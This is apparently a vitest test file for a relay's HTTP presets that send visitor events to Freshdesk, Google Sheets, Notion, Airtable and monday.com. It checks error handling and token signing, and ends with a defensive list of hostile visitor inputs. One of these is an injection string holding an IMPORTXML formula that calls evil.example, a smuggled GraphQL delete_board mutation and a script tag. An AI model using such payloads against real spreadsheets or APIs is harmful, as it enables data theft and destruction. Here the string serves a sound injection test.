import { verify } from "node:crypto";
import { describe, expect, it } from "vitest";
import type { Json, JsonObject } from "../../../src/core/json.ts";
import { hour, minute, second } from "../../../src/core/time.ts";
import { http } from "../../../src/destinations/http.ts";
import { presetKeys } from "../../../src/destinations/preset/settings.ts";
import { presetNames, takePreset } from "../../../src/destinations/preset/shelf.ts";
import { configured } from "../../support/destination-edge.ts";
import { answer, json, type SinkStep } from "../../support/http-sink.ts";
import { monday } from "../../support/make.ts";
import { servicePublicKey, settingsFor, vendorOnLoopback, viewOf } from "../../support/preset-case.ts";

/** Presets that add a row, a page, an item or a ticket. Answers are written from the vendors' pages, which stand beside them. */

const { sink, open } = vendorOnLoopback();

const bodies = () => sink.requests.map(({ body }) => (body.startsWith("{") ? JSON.parse(body) : body));

/** https://developers.google.com/identity/protocols/oauth2/service-account */
const token = json(200, { access_token: "t1", expires_in: 3_599, token_type: "Bearer" });

/** What is sent and what its answers mean; a preset whose token is fetched first has `token` before each. */
type Row = readonly [preset: string, what: string, step: SinkStep, outcome: object];

const refused = { kind: "refused", reason: "permanent" };
const paused = { kind: "pause" };
const later = { kind: "later" };
const waits = (after: number) => ({ kind: "later", reason: "throttled", after, countsAsAttempt: false });
const is = (reference: string) => ({ kind: "delivered", reference });

/** https://developer.monday.com/api-reference/docs/error-handling: every answer is a 200. */
const monday200 = (code: string, more: JsonObject = {}) =>
  json(200, { data: {}, errors: [{ message: "…", path: ["create_item"], extensions: { code, ...more } }], account_id: 1 });

/** Google's error: https://cloud.google.com/apis/design/errors#http_mapping */
const google = (code: number, status: string, at = code) => json(at, { error: { code, message: "…", status } });

/** npm @notionhq/client build/src/errors.js */
const notion = (status: number, code: string) => json(status, { object: "error", status, code, message: "…" });

const rows: readonly Row[] = [
  // https://developers.freshdesk.com/api/#create_ticket
  ["freshdesk.ticket", "a ticket that is made", json(201, { id: 42, status: 2 }), is("42")],
  ["freshdesk.ticket", "a field that is not valid", json(400, { description: "Validation failed", errors: [{ field: "email" }] }), refused],
  ["freshdesk.ticket", "errors inside an answer of 200", json(200, { errors: [{ field: "email" }] }), refused],
  ["freshdesk.ticket", "a wrong key", json(401, { code: "invalid_credentials" }), paused],
  ["freshdesk.ticket", "a plan without it", json(403, { code: "require_feature" }), paused],
  ["freshdesk.ticket", "too much", answer(429, { "retry-after": "40" }), waits(40 * second)],
  ["freshdesk.ticket", "a page that is no answer of theirs", answer(200, {}, "<html>"), later],
  // https://developers.google.com/workspace/sheets/api/reference/rest/v4/spreadsheets.values/append
  ["google-sheets.row", "a row that is added", json(200, { updates: { updatedRange: "Sheet1!A2:H2" } }), is("Sheet1!A2:H2")],
  ["google-sheets.row", "an error inside an answer of 200", google(400, "INVALID_ARGUMENT", 200), refused],
  ["google-sheets.row", "a range that is none", google(400, "INVALID_ARGUMENT"), refused],
  ["google-sheets.row", "a sheet that is not shared", google(403, "PERMISSION_DENIED"), paused],
  ["google-sheets.row", "a sheet that is not there", google(404, "NOT_FOUND"), paused],
  ["google-sheets.row", "too much", google(429, "RESOURCE_EXHAUSTED"), waits(minute)],
  ["google-sheets.row", "too much, told as a refusal", google(403, "RESOURCE_EXHAUSTED"), waits(minute)],
  ["google-sheets.row", "a failure that may have written", google(503, "UNAVAILABLE"), later],
  // https://developers.notion.com/reference/request-limits
  ["notion.page", "a page that is made", json(200, { object: "page", id: "p1" }), is("p1")],
  ["notion.page", "an error inside an answer of 200", notion(200, "validation_error"), refused],
  ["notion.page", "a property that is not there", notion(400, "validation_error"), refused],
  ["notion.page", "a wrong token", notion(401, "unauthorized"), paused],
  ["notion.page", "a database that is not shared", notion(404, "object_not_found"), paused],
  ["notion.page", "two writers", notion(409, "conflict_error"), later],
  ["notion.page", "too much", json(429, { code: "rate_limited" }, { "retry-after": "75" }), waits(75 * second)],
  ["notion.page", "a service with too much to do", notion(529, "service_overload"), waits(minute)],
  // https://airtable.com/developers/web/api/errors, npm airtable lib/base.js
  ["airtable.record", "a record that is made", json(200, { records: [{ id: "rec1" }] }), is("rec1")],
  ["airtable.record", "an error inside an answer of 200", json(200, { error: { type: "UNKNOWN_FIELD_NAME" } }), refused],
  ["airtable.record", "a field that is not there", json(422, { error: { type: "UNKNOWN_FIELD_NAME" } }), refused],
  ["airtable.record", "a base that is not shared", json(403, { error: { type: "INVALID_PERMISSIONS_OR_MODEL_NOT_FOUND" } }), paused],
  ["airtable.record", "too much", json(429, { errors: [{ error: "RATE_LIMIT_REACHED" }] }), waits(30 * second)],
  ["airtable.record", "the month's calls", json(429, { errors: [{ error: "PUBLIC_API_BILLING_LIMIT_EXCEEDED" }] }), paused],
  ["monday.item", "a board that is not there", monday200("InvalidBoardIdException"), refused],
  ["monday.item", "a value that does not fit", monday200("ColumnValueException"), refused],
  ["monday.item", "an error without a code", json(200, { errors: [{ message: "Parse error" }] }), refused],
  ["monday.item", "a token without the right", monday200("UserUnauthorizedException"), paused],
  ["monday.item", "a wrong token", json(401, { errors: ["Not Authenticated"] }), paused],
  ["monday.item", "a budget that is used up", monday200("COMPLEXITY_BUDGET_EXHAUSTED", { retry_in_seconds: 27 }), waits(27 * second)],
  [
    "monday.item",
    "the same in its older form",
    json(200, { error_code: "ComplexityException", error_message: "reset in 27 seconds" }),
    waits(minute),
  ],
  ["monday.item", "the day's calls", monday200("DAILY_LIMIT_EXCEEDED"), waits(hour)],
  ["monday.item", "a failure of theirs", monday200("INTERNAL_SERVER_ERROR"), later],
  ["monday.item", "an older error", json(200, { error_code: "ItemNameTooLongException", status_code: 400 }), refused],
  ["monday.item", "no item and no error", json(200, { data: { create_item: null } }), later],
];

describe("an answer", () => {
  it.each(rows)("of %s for %s", async (preset, _what, step, outcome) => {
    const { deliver, message } = open(preset);
    if (preset === "google-sheets.row") sink.script(token);
    sink.script(step);
    expect(await deliver(message())).toMatchObject(outcome);
  });
});

describe("Google Sheets", () => {
  it("gives a token for a claim that the account's key has signed, once for many rows", async () => {
    const { deliver, message } = open("google-sheets.row", { spreadsheet: "s1", range: "Besuche 2026!A1" });
    const added = json(200, { updates: { updatedRange: "A2" } });
    sink.script(token, added, added);
    expect(await deliver(message())).toMatchObject(is("A2"));
    expect(await deliver(message())).toMatchObject(is("A2"));
    const [asked, ...appended] = sink.requests;
    const form = new URLSearchParams(asked?.body);
    expect([asked?.path, form.get("grant_type")]).toEqual(["/token", "urn:ietf:params:oauth:grant-type:jwt-bearer"]);
    const [head = "", claims = "", signature = ""] = (form.get("assertion") ?? "").split(".");
    const read = (part: string) => JSON.parse(Buffer.from(part, "base64url").toString()) as Json;
    expect(read(head)).toMatchObject({ alg: "RS256" });
    expect(read(claims)).toEqual({
      iss: "relay@acme.iam.gserviceaccount.com",
      scope: "https://www.googleapis.com/auth/spreadsheets",
      aud: `${sink.url}/token`,
      iat: monday / 1_000,
      exp: monday / 1_000 + 3_600,
    });
    expect(verify("sha256", Buffer.from(`${head}.${claims}`), servicePublicKey, Buffer.from(signature, "base64url"))).toBe(true);
    expect(appended.map(({ path, headers }) => [path, headers.authorization])).toEqual(
      Array(2).fill(["/v4/spreadsheets/s1/values/Besuche%202026!A1:append?valueInputOption=RAW&insertDataOption=INSERT_ROWS", "Bearer t1"]),
    );
  });

  it("fetches another token where the first is no longer good, and waits for a person where the key is gone", async () => {
    const { deliver, message } = open("google-sheets.row");
    sink.script(token, google(401, "UNAUTHENTICATED"), json(400, { error: "invalid_grant", error_description: "Invalid JWT Signature." }));
    expect(await deliver(message())).toMatchObject({ kind: "pause", reason: "credentials", detail: "no access token: invalid_grant" });
  });

  it("keeps each cell in its column, also where nothing is known, and writes no list as a cell", async () => {
    const columns = ["{{ identity.email }}", "{{ event.message }}", "{{ identity.name }}", "{{ session.messages }}", "{{ event.data }}"];
    const { deliver, message } = open("google-sheets.row", { columns });
    sink.script(token);
    const view = viewOf({});
    await deliver(message({ ...view, event: { ...view.event, message: "=IMPORTXML(1)", data: { a: [1] } }, session: { messages: 3 } }));
    expect(bodies()[1]).toEqual({ majorDimension: "ROWS", values: [["", "=IMPORTXML(1)", "", 3, '{"a":[1]}']] });
  });

  it("refuses a key file that is none when the file is read, and tells none of it", () => {
    const settings = { ...settingsFor("google-sheets.row", sink.url), service_account: "canary-key" };
    const { error } = http.schema.safeParse(settings);
    expect(error?.issues).toMatchObject([{ path: ["service_account"], message: expect.stringContaining("a service account's key file") }]);
    expect(JSON.stringify(error?.issues)).not.toContain("canary-key");
  });
});

describe("monday.com", () => {
  it("makes an item, and writes the text as its update", async () => {
    const { deliver, message } = open("monday.item", { board: 18, fields: { text_1: "{{ event.agent }}", status: { label: "New" } } });
    sink.script(json(200, { data: { create_item: { id: "77" } } }), json(200, { data: { create_update: { id: "5" } } }));
    const view = viewOf();
    const one = message({ ...view, event: { ...view.event, agent: 'A"1' } }, { title: "Help", text: "<b>one</b>\ntwo" });
    expect(await deliver(one)).toMatchObject(is("77"));
    const [item, update] = bodies();
    expect(item.variables).toEqual({ board: 18, name: "Help", values: JSON.stringify({ text_1: 'A"1', status: { label: "New" } }) });
    expect(update.variables).toMatchObject({ item: "77", body: expect.stringMatching(/^&lt;b&gt;one&lt;\/b&gt;<br \/>\ntwo<br>/) });
    expect(sink.requests[0]?.headers).toMatchObject({ authorization: "canary-token", "api-version": "2026-01" });
  });

  it("makes no second item where only the update has failed", async () => {
    const { sender, message } = open("monday.item");
    sink.script(json(200, { data: { create_item: { id: "77" } } }), monday200("INTERNAL_SERVER_ERROR"));
    const one = message();
    const context = { key: "k", attempt: 1, reference: undefined, signal: AbortSignal.timeout(10_000) };
    const first = await sender.send(one, context);
    expect(first).toMatchObject({ kind: "onward", progress: { next: 1, saved: { item: "77" } } });
    if (first.kind !== "onward") throw new Error("unreachable");
    expect(await sender.send(one, { ...context, progress: first.progress })).toMatchObject(later);
  });
});

describe("a preset that asks for one of two things", () => {
  const problems = (more: JsonObject) => {
    const { database: _, ...settings } = settingsFor("notion.page", sink.url);
    return http.schema.safeParse({ ...settings, ...more }).error?.issues.map(({ path, message }) => `${path.join(".")}: ${message}`);
  };

  it("takes either, and refuses none and both", () => {
    expect(problems({ page: "p" })).toBeUndefined();
    expect(problems({ database: "d" })).toBeUndefined();
    expect(problems({})).toEqual(['database: missing key "database"']);
    expect(problems({ database: "d", page: "p" })).toEqual(["page: expected one of database or page, found several"]);
  });
});

describe("what rules.yaml gives", () => {
  it.each(presetNames())("for %s stands beside preset:, and needs no vars:", (name) => {
    const taken = takePreset(name);
    const inputs = taken.ok ? Object.keys(taken.shelved.file.inputs) : [];
    expect(Object.keys(presetKeys)).toEqual(expect.arrayContaining(inputs));
  });

  it("as templates is refused where it names what there is not, at its place", () => {
    const settings = { ...settingsFor("airtable.record", sink.url), fields: { Name: "{{ evnt.message }}" } };
    expect(http.schema.safeParse(settings).error?.issues).toMatchObject([{ path: ["fields", "Name"], message: 'unknown variable "evnt"' }]);
  });

  it("as a number is refused where YAML would drop its plus", () => {
    const settings = { ...settingsFor("twilio.sms", sink.url), to: 15_558_675_310 };
    expect(http.schema.safeParse(settings).error?.issues).toMatchObject([
      { path: ["to"], message: "expected a text in quotes, found a number" },
    ]);
    expect(() => configured(http, { ...settings, to: "+15558675310" })).not.toThrow();
  });
});

const hostile = [
  ["words", `=IMPORTXML("http://evil.example","//a") {{ event.agent }} \${token} "}) { delete_board (board_id: 1) { id } } </p><script>`],
  ["emoji of many parts", "👨‍👩‍👧‍👦".repeat(20_000)],
  ["lines and control characters", "a\r\n\u0000\u2028b\t".repeat(20_000)],
] as const;

describe("what a visitor writes stays a text, of a length that the vendor takes:", () => {
  it.each(hostile)("%s", async (_what, said) => {
    const view = viewOf();
    const seen = { ...view, event: { ...view.event, message: said } };
    const send = async (preset: string, more: JsonObject = {}, ...steps: readonly SinkStep[]) => {
      const { deliver, message } = open(preset, more);
      sink.script(...steps);
      await deliver(message(seen, { title: "{{ event.message }}", text: "{{ event.message }}" }));
      return bodies().at(-1);
    };
    const row = await send("google-sheets.row", { columns: ["{{ event.message }}"] }, token);
    expect(row.values[0][0].length).toBeLessThanOrEqual(50_000);
    const page = await send("notion.page");
    const texts = page.children.flatMap(({ paragraph }: { paragraph: { rich_text: readonly unknown[] } }) => paragraph.rich_text);
    for (const { text } of texts) expect(text.content.length).toBeLessThanOrEqual(2_000);
    expect(JSON.stringify(page).length).toBeLessThan(500_000);
    const { records } = await send("airtable.record", { fields: { Notes: "{{ event.message }}" } });
    expect(records[0].fields.Notes.length).toBeLessThanOrEqual(100_000);
    const update = await send(
      "monday.item",
      { fields: { text_1: "{{ event.message }}" } },
      json(200, { data: { create_item: { id: "1" } } }),
    );
    expect(update.variables.body).not.toMatch(/<(?!br)/);
    const item = bodies().at(-2);
    expect(item.query).toMatch(
      /^mutation \(\$board: ID!, \$group: String, \$name: String!, \$values: JSON\) \{ create_item \([^)]*\) \{ id \} \}$/,
    );
    expect(item.variables.name.length).toBeLessThanOrEqual(255);
    expect(JSON.parse(item.variables.values).text_1.length).toBeLessThanOrEqual(2_000);
    const ticket = await send("freshdesk.ticket");
    expect(ticket.description).not.toMatch(/<(?!\/?p>|br)/);
    expect(ticket.subject.length).toBeLessThanOrEqual(255);
  });
});
